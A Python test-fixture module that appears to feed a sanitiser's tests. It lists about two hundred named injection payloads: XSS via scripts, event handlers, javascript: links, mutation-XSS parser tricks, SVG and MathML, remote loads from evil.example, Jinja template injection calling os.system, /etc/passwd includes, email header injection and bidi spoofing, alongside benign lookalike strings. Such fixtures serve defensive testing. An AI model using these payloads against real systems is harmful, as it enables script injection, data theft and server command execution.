"""
Texts that would like to be code, texts that only look like it, and what a page may hold.

Every attack that runs calls `alert` with its name, and every one that loads something
asks `evil.example` for its name: a test that watches both knows which it was.
"""

import re
from typing import Final

_ATTACKS: Final = r"""
script              <script>alert('NAME')</script>
script-source       <script src="https://evil.example/NAME"></script>
script-closed       </script><script>alert('NAME')</script>
script-case         <ScRiPt>alert('NAME')</sCrIpT >
script-slash        <script/x>alert('NAME')</script/x>
script-split        <scr<script>ipt>alert('NAME')</scr</script>ipt>
script-open         <script>alert('NAME')
script-entities     &lt;script&gt;alert('NAME')&lt;/script&gt;
script-numbers      &#60;script&#62;alert('NAME')&#60;/script&#62;
handler             <img src=x.png onerror=alert('NAME')>
handler-slashes     <img/src="x.png"onerror=alert('NAME')>
handler-mouse       <b onmouseover="alert('NAME')" onfocus="alert('NAME')" tabindex=0 autofocus>x</b>
handler-open        <img src=x.png onerror=alert('NAME')//
handler-break       "><img src=x.png onerror=alert('NAME')>
handler-quote       ' onmouseover='alert(1)' autofocus onfocus='alert("NAME")' x='
handler-double      " onmouseover="alert(1)" autofocus onfocus="alert('NAME')" x="
handler-details     <details open ontoggle=alert('NAME')><summary>x</summary>y</details>
handler-video       <video src=x.png onerror=alert('NAME')></video>
handler-body        <body onload=alert('NAME')>
handler-style       <style onload=alert('NAME')></style>
handler-animation   <b style="animation:x 1s" onanimationstart=alert('NAME')>x</b>
link-script         <a href="javascript:alert('NAME')">x</a>
link-case           <a href=" jAvAsCrIpT&colon;alert('NAME')">x</a>
link-tab            <a href="java&#9;script:alert('NAME')">x</a>
link-line           <a href="java&NewLine;script&colon;alert('NAME')">x</a>
link-control        <a href="&#1;javascript:alert('NAME')">x</a>
link-vb             <a href="vbscript:alert('NAME')">x</a>
link-data           <a href="data:text/html,<script>alert('NAME')</script>">x</a>
link-blob           <a href="blob:https://evil.example/NAME">x</a>
link-markdown       [x](javascript:alert('NAME'))
link-markdown-tab   [x](<java&#9;script:alert('NAME')>)
link-auto           <javascript:alert('NAME')>
link-bare           javascript:alert('NAME')
link-open           <a href="https://evil.example/NAME
link-unclosed       <a href=https://clinic.example/x>x
link-target         <a href="https://clinic.example/x" target=_blank ping=https://evil.example/NAME>x</a>
frame               <iframe src="javascript:alert('NAME')"></iframe>
frame-doc           <iframe srcdoc="<script>parent.alert('NAME')</script>"></iframe>
frame-foreign       <iframe src=https://evil.example/NAME></iframe>
frame-object        <object data=https://evil.example/NAME></object><embed src=https://evil.example/NAME>
base                <base href="https://evil.example/NAME/">
meta                <meta http-equiv=refresh content="0;url=https://evil.example/NAME">
preload             <link rel=stylesheet href=https://evil.example/NAME><link rel=preload as=image href=https://evil.example/NAME>
form                <form action=https://evil.example/NAME><input name=x autofocus onfocus=alert('NAME')><button>x</button></form>
form-action         <button formaction="javascript:alert('NAME')">x</button>
svg                 <svg onload=alert('NAME')></svg>
svg-script          <svg><script>alert('NAME')</script></svg>
svg-animate         <svg><a><animate attributeName=href values="javascript:alert('NAME')" /><text>x</text></a></svg>
svg-use             <svg><use href="https://evil.example/NAME#x"></use></svg>
svg-foreign         <svg><foreignObject><img src=x.png onerror=alert('NAME')></foreignObject></svg>
math                <math><maction actiontype="statusline#x" xlink:href="javascript:alert('NAME')">x</maction></math>
mxss-math           <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x.png onerror=alert('NAME')&gt;">
mxss-svg-style      <svg></p><style><a title="</style><img src=x.png onerror=alert('NAME')>"></style></svg>
mxss-form           <form><math><mtext></form><form><mglyph><style></math><img src=x.png onerror=alert('NAME')>
mxss-noscript       <noscript><p title="</noscript><img src=x.png onerror=alert('NAME')>"></p></noscript>
mxss-title          <svg><title><style><img title="</style></title></svg><img src=x.png onerror=alert('NAME')>">
mxss-desc           <svg><desc><noembed></desc></svg><img src=x.png onerror=alert('NAME')></noembed>
mxss-annotation     <math><annotation-xml encoding="text/html"><style><img src=x.png onerror=alert('NAME')></style></annotation-xml></math>
mxss-textarea       <textarea><p title="</textarea><img src=x.png onerror=alert('NAME')>"></textarea>
mxss-xmp            <xmp><p title="</xmp><svg/onload=alert('NAME')>"></xmp>
mxss-template       <template><style><!--</template><img title="--><img src=x.png onerror=alert('NAME')>"></style></template>
mxss-select         <select><math><style></select><img src=x.png onerror=alert('NAME')></style></math>
mxss-table          <table><td><svg><style></td></table><img src=x.png onerror=alert('NAME')></style>
mxss-plaintext      <svg><plaintext><p title="</plaintext><img src=x.png onerror=alert('NAME')>">
mxss-entity         <b title="&lt;/b&gt;&lt;img src=x.png onerror=alert('NAME')&gt;">x</b>
mxss-backtick       <b title="``onmouseover=alert('NAME')">x</b>
mxss-nul            <scr\0ipt>alert('NAME')</scr\0ipt>
comment             <!-- alert('NAME') -->
comment-open        <!-- <script>alert('NAME')
comment-short       <!--><img src=x.png onerror=alert('NAME')>-->
comment-bang        <!-- x --!><img src=x.png onerror=alert('NAME')>
comment-bogus       <!x ><img src=x.png onerror=alert('NAME')>
comment-if          <!--[if gte IE 4]><script>alert('NAME')</script><![endif]-->
cdata               <![CDATA[<script>alert('NAME')</script>]]>
cdata-svg           <svg><![CDATA[><img src=x.png onerror=alert('NAME')>]]></svg>
cdata-end           ]]><img src=x.png onerror=alert('NAME')>
instruction         <?xml-stylesheet href="https://evil.example/NAME"?><?php alert('NAME') ?>
doctype             <!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/NAME">]>&e;
style               <b style="background:url(https://evil.example/NAME)">x</b>
style-position      <b style="position:fixed;inset:0;background:red;z-index:9">x</b>
style-element       <style>@import "https://evil.example/NAME"; main { display: none }</style>
style-open          <style>* { display: none }
style-expression    <b style="width:expression(alert('NAME'))">x</b>
remote-image        <img src="https://evil.example/NAME">
remote-host         <img src="//evil.example/NAME">
remote-slashes      <img src="/\\evil.example/NAME">
remote-markdown     ![x](https://evil.example/NAME.png)
remote-set          <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="https://evil.example/NAME 1x">
remote-picture      <picture><source srcset=https://evil.example/NAME><img alt=x></picture>
remote-poster       <video poster=https://evil.example/NAME></video><audio src=https://evil.example/NAME autoplay></audio>
remote-track        <video><source src=https://evil.example/NAME><track src=https://evil.example/NAME default></video>
remote-input        <input type=image src=https://evil.example/NAME>
remote-background   <table background=https://evil.example/NAME><tr><td background=https://evil.example/NAME>x</table>
remote-cite         <blockquote cite=https://evil.example/NAME>x</blockquote>
template-jinja      {{ 7*7 }}{{ cycler.__init__.__globals__.os.system('NAME') }}{% include "/etc/passwd" %}{# x #}
template-raw        {% raw %}{% endraw %}{% block head %}NAME{% endblock %}
template-dollar     ${7*7}#{7*7}<%= 7*7 %><%- system('NAME') %>[[${7*7}]]*{7*7}
template-ejs        {{constructor.constructor('alert("NAME")')()}}
mjml                <mj-raw><script>alert('NAME')</script></mj-raw><mj-image src="https://evil.example/NAME" />
mjml-include        <mj-include path="/etc/passwd" /><mj-head><mj-font name="x" href="https://evil.example/NAME" /></mj-head>
mjml-close          </mj-text></mj-column></mj-section><mj-section><mj-column><mj-image src="https://evil.example/NAME" />
mjml-class          <b css-class="x" mj-class="y" class="brand" id="content">x</b>
header              x%0d%0aBcc: all@evil.example
header-words        =?utf-8?q?x=0ABcc:_all@evil.example?=
header-controls     x\u2028Bcc: all@evil.example\x0bX-NAME: 1
header-noncharacters x\ufffe\uffffBcc: all@evil.example
bidi-override       \u202e12 mg\u202c \u202d34\u202c
bidi-open           \u202egm 21
bidi-embedding      \u202b12 mg \u202a34
bidi-element        <bdo dir=rtl>12 mg</bdo>
tag-open            <b>x
tag-deep            DEEP
tag-closes          </p></div></article></main></body></html>
tag-heading         <h1>x</h1><h2 id=content>y</h2>
tag-cut             <b title="x
tag-cut-single      <b title='x
tag-name            <x-NAME onclick=alert('NAME')>x</x-NAME>
json                "}]}</script><script>alert('NAME')</script><!--
json-html           \\u003cscript\\u003ealert('NAME')\\u003c/script\\u003e
attribute-clobber   <a id=document name=body href="https://clinic.example/x">x</a><img name=cookie id=location alt=x>
handler-search      <search onclick=alert('NAME') onpointerenter=alert('NAME')>x</search>
handler-popover     <b popover id=p1 onbeforetoggle=alert('NAME')>x</b><button popovertarget=p1 autofocus>x</button>
handler-snap        <div onscrollsnapchange=alert('NAME') style=overflow-y:hidden><div style=scroll-snap-align:start>x</div></div>
handler-visibility  <b oncontentvisibilityautostatechange=alert('NAME') style=display:block;content-visibility:auto>x</b>
handler-marquee     <marquee width=1 loop=1 onfinish=alert('NAME') onstart=alert('NAME')>x</marquee>
handler-transition  <a href=https://clinic.example/x ontransitionend=alert('NAME') style="transition:outline 1s">x</a>
handler-unicode     <img src=x.png \u200bonerror=alert('NAME') \xa0onerror=alert('NAME')>
handler-formfeed    <img\x0csrc=x.png\x0conerror=alert('NAME')>
handler-backtick    <img src=`x.png` `onerror=alert('NAME')` onerror=`alert('NAME')`>
handler-entity      <img src=x.png onerror=&#97lert('NAME')>
handler-amp         <a href="https://clinic.example/x?a=1&quot onmouseover=alert('NAME') x=">x</a>
entity-bare         &ltscript&gtalert('NAME')&lt/script&gt
entity-long         &#x000003Cimg src=x.png onerror=alert('NAME')&#x000003E
entity-twice        &amp;lt;img src=x.png onerror=alert('NAME')&amp;gt;
entity-wide         \uff1cimg src=x.png onerror=alert('NAME')\uff1e
line-script         <img src=x.png onerror\u2028=\u2029alert('NAME')>
line-json           \u2028</script>\u2029<script>alert('NAME')</script>
json-open           <!--<script>"}]}
json-entity         &quot;}]}&lt;/script&gt;&lt;script&gt;alert('NAME')&lt;/script&gt;
shadow-root         <div><template shadowrootmode=open><img src=x.png onerror=alert('NAME')><slot></slot></template>x</div>
shadow-style        <div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style></template>x</div>
template-nested     <template><template></template><img src=x.png onerror=alert('NAME')></template>
noscript-style      <noscript><style></noscript><img src=x.png onerror=alert('NAME')></style>
noscript-image      <noscript><img src=https://evil.example/NAME></noscript>
svg-set             <svg><a><set attributeName=href to="javascript:alert('NAME')"/><text y=20>x</text></a></svg>
svg-values          <svg><a id=x1><text y=9>x</text></a><animate href=#x1 attributeName=xlink:href from=javascript:alert('NAME') to=1 begin=0s /></svg>
svg-begin           <svg><animate onbegin=alert('NAME') attributeName=x dur=1s /></svg>
svg-image           <svg><image href=https://evil.example/NAME /><feImage href=https://evil.example/NAME /></svg>
svg-style           <svg><style>@import url(https://evil.example/NAME);</style></svg>
svg-handler         <svg><x-y><script href="data:,alert('NAME')" /></x-y></svg>
math-href           <math href="javascript:alert('NAME')"><mi>x</mi></math>
math-action         <math><mrow xlink:type=simple xlink:href="javascript:alert('NAME')"><mtext>x</mtext></mrow></math>
mxss-mglyph         <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x.png onerror=alert('NAME')>"></style></h1>
mxss-flatten        <svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x.png onerror=alert('NAME')>">
mxss-caption        <table><caption><svg><title><table><caption></caption></table><style><a id="</style><img src=x.png onerror=alert('NAME')>">
mxss-selectedcontent <select><button><selectedcontent></selectedcontent></button><option><img src=x.png onerror=alert('NAME')>x</option></select>
mxss-processing     <svg><?xml-stylesheet ><img src=x.png onerror=alert('NAME')> ?></svg>
mxss-attribute      <a title="--!><img src=x.png onerror=alert('NAME')>" lang="]]><img src=x.png onerror=alert('NAME')>">x</a>
mxss-namespace      <math><mi><x-y></mi><style></x-y></math><img src=x.png onerror=alert('NAME')></style>
mxss-font           <svg><font color=x><style><img title="</style><img src=x.png onerror=alert('NAME')>"></style></font></svg>
mxss-frameset       <svg><desc><frameset><noframes></desc></svg><img src=x.png onerror=alert('NAME')></noframes>
comment-conditional <!--[if mso]><img src=https://evil.example/NAME><![endif]--><![if !mso]><img src=x.png onerror=alert('NAME')><![endif]>
comment-nested      <!-- <!-- --><img src=x.png onerror=alert('NAME')> -->
link-scheme-slash   <a href="javascript://clinic.example/%0aalert('NAME')">x</a>
link-backslash      <a href="\\\\evil.example/NAME">x</a>
link-userinfo       <a href="https://clinic.example@evil.example/NAME">x</a>
link-homograph      <a href="https://clin\u0456c.example/NAME">https://clinic.example/</a>
link-bidi           <a href="https://clinic.example/\u202egpj.NAME">x</a>
link-attribution    <a href=https://clinic.example/x attributionsrc=https://evil.example/NAME download referrerpolicy=unsafe-url>x</a>
link-entities       <a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert('NAME')>x</a>
link-reference      [x]: javascript:alert('NAME') "title"
link-image          ![x](javascript:alert('NAME'))
meta-csp            <meta http-equiv=Content-Security-Policy content="script-src *"><meta name=referrer content=unsafe-url>
meta-refresh        <meta http-equiv="refresh" content="0;url=data:text/html,<script>alert('NAME')</script>">
base-target         <base target=_top href=javascript:/*NAME*/>
portal              <fencedframe src=https://evil.example/NAME></fencedframe><portal src=https://evil.example/NAME></portal>
object-param        <object type=image/svg+xml data="data:image/svg+xml,<svg onload=alert('NAME') xmlns='http://www.w3.org/2000/svg'/>"></object>
style-import        <b style="@import url(https://evil.example/NAME);background:image-set('https://evil.example/NAME' 1x)">x</b>
style-variable      <td style="text-align:var(--x);--x:url(https://evil.example/NAME)">x</td>
style-cut           <td style="text-align:left;}body{display:none">x</td>
speculation         <script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/NAME"]}]}</script>
importmap           <script type=importmap>{"imports":{"x":"https://evil.example/NAME"}}</script>
form-owner          <input form=x formaction=https://evil.example/NAME type=image src=https://evil.example/NAME>
remote-preload      <link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=https://evil.example/NAME>
remote-object       <embed src=https://evil.example/NAME><applet code=NAME codebase=https://evil.example/></applet>
remote-imagesrc     <link rel=preload as=image imagesrcset=https://evil.example/NAME>
header-next-line    x\x85Bcc: all@evil.example\x85X-NAME: 1
header-paragraph    x\u2029Bcc: all@evil.example\x1cX-NAME: 1\x1d\x1e
header-base64       =?utf-8?b?eA0KQmNjOiBhbGxAZXZpbC5leGFtcGxl?=
mjml-attributes     " mj-class="x" href="https://evil.example/NAME"><mj-button
mjml-include-css    <mj-include path="/etc/passwd" type="css" css-inline="inline" />
mjml-preview        </mj-preview></mj-head><mj-body><mj-image src="https://evil.example/NAME" /></mj-body>
template-namespace  {{ self.__init__.__globals__ }}{%- for x in range(9**9) -%}{%- endfor -%}{{ page.title.__class__.__mro__ }}
template-line       # for x in range(9)\x0b## NAME
bidi-isolates       \u2066\u202e12 mg\u2069 \u206834\u2067
bidi-marks          x\u061c\u200f12 mg\u2064\u200e-\ufeff3
"""
_DEPTH: Final = 150


def _attacks() -> dict[str, str]:
    found = {}
    for line in _ATTACKS.strip().splitlines():
        name, text = line.split(maxsplit=1)
        text = re.sub(
            r"\\(u[0-9a-f]{4}|x[0-9a-f]{2}|0|\\)",
            lambda m: _character(m[1]),
            text,
        )
        deep = "<b><i>" * (_DEPTH // 2) + "x"
        found[name] = text.replace("DEEP", deep).replace("NAME", name)
    return found


def _character(escape: str) -> str:
    if escape == "\\":
        return "\\"
    return "\0" if escape == "0" else chr(int(escape[1:], 16))


ATTACKS: Final = _attacks()
"""By name, in their order."""

LOOKALIKES: Final = (
    "a < b and b > c",
    "a<b, c >d and x<=y",
    "5 > 3 && 2 < 4",
    "I <3 you",
    "Q&A, R&D; AT&T",
    "x = {y} and {z: 1}",
    "{{ first_name }} is {first_name}",
    "100 % of 50%",
    "javascript is a language, javascript: too",
    "on error = none; onclick is a word",
    "style, script and svg are words",
    "“quoted” and 'single' and \"double\"",
    "1 << 2 >> 3",
    "->, <-, <>, <=>, :-> and >_<",
    "C:\\clinic\\x and //clinic",
    "data: 5 mg; url(x) and @import",
    "mail <at> clinic",
    "x]]> y --> z",
    "$5 and ${5} and #{5}",
)
"""Texts that must be seen as they are."""

HOST: Final = "evil.example"
